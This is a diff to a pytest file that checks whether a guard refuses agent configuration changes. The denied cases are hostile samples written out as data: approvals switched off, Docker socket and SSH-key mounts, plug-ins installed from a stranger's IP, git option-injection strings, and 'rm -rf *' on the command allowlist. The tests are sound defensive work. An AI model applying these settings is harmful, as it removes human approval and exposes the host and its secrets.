@@ -127,6 +127,43 @@ def test_no_other_spelling_or_member_hides_what_is_set(body: Any) -> None:
     assert isinstance(_decide(body), Deny)
 
 
+def _set(*path: str, value: Any) -> dict[str, Any]:
+    for part in reversed(path):
+        value = {part: value}
+    return value
+
+
+CONFIGURED: dict[str, Any] = {
+    "another guard": _set("config", "security", "tirith_path", value="/srv/uploads/x"),
+    "a guard of the project": _set("security", "tirith_path", value="./tirith"),
+    "another program for secrets": _set("secrets", "onepassword", "binary_path", value="/home/me/.hermes/uploads/op"),
+    "the socket of the engine": _set("terminal", "docker_volumes", value=["/var/run/docker.sock:/s"]),
+    "the agent's own files": _set("terminal", "docker_volumes", value=["~/.hermes:/h"]),
+    "keys, to be read": _set("terminal", "docker_volumes", value=["/root/.ssh:/h:ro"]),
+    "a home": _set("terminal", "docker_volumes", value=["${HOME}:/h"]),
+    "a volume that is a mapping": _set("terminal", "docker_volumes", value=[{"source": "/", "target": "/h"}]),
+    "a volume by its key": {"key": "terminal.docker_volumes", "value": ["/run/docker.sock:/s"]},
+    "everybody on a platform": _set("platforms", "telegram", "allow_from", value=["*"]),
+    "a value that is a mapping": {"approvals.mode": {"value": "off"}},
+    "a value in a configuration": {"config": {"approvals": {"mode": {"value": "off"}}}},
+    "a new value and the old": {"approvals": {"mode": {"new": "off", "old": "manual"}}},
+    "a change": {"updates": {"approvals.mode": {"to": "off"}}},
+    "a skill of a stranger": {"method": "skills.manage", "params": {"action": "install", "query": "http://198.51.100.7/x"}},
+    "a plug-in of a stranger": {"method": "plugins.manage", "params": {"action": "install", "url": "http://198.51.100.7/x.git"}},
+    "an option in the place of an address": {"identifier": "--upload-pack=sh -c x"},
+    "another option": {"identifier": "-c core.fsmonitor=x"},
+    "an interpreter that is never asked about": {"command_allowlist": ["git status", "python3 *"]},
+    "a download that is never asked about": {"command_allowlist": [DROP]},
+    "a removal that is never asked about": {"command_allowlist": ["rm -rf *"]},
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("body", CONFIGURED.values(), ids=CONFIGURED.keys())
+def test_settings_that_hand_the_agent_over_are_refused(body: Any) -> None:
+    """Guards and programs that are replaced, walls that are opened, values inside values."""
+    assert isinstance(_decide(body), Deny)
+
+
 PLACED: dict[str, Any] = {
     "a program where all may write": _server(command="./run", cwd="/tmp/.x"),
     "a script there": _server(command="node", args=["x.js"], cwd="/dev/shm"),
@@ -271,6 +308,17 @@ def test_fields_of_a_form_are_members(raw: str) -> None:
 
 
 PASSED: dict[str, Any] = {
+    "the guard in a place of its own": _set("security", "tirith_path", value="/opt/guard/tirith"),
+    "the program for secrets": _set("secrets", "onepassword", "binary_path", value="/usr/local/bin/op"),
+    "volumes of a project": _set(
+        "terminal", "docker_volumes", value=["/home/me/work:/workspace", "cache:/root/.cache"]
+    ),
+    "one person on a platform": _set("platforms", "telegram", "allow_from", value=["12345"]),
+    "a value inside a value": {"approvals.mode": {"value": "manual"}},
+    "a skill of the hub": {"method": "skills.manage", "params": {"action": "install", "query": "pdf tools"}},
+    "a plug-in of a known forge": {"identifier": "https://github.com/example/plugin.git"},
+    "commands of every day": {"command_allowlist": ["git status", "npm test", "docker compose ps", "ls -la"]},
+    "an address of a provider": _set("providers", "x", "api", value="https://llm.example.com/v1"),
     "a directory of a project": _server(command="node", args=["dist/index.js"], cwd="/srv/app"),
     "a program of the path where all may write": _server(command="npx", args=["-y", "x"], cwd="/tmp"),
     "arguments in two spellings": _server(**INNOCENT, Args=["--local-timezone=UTC"]),
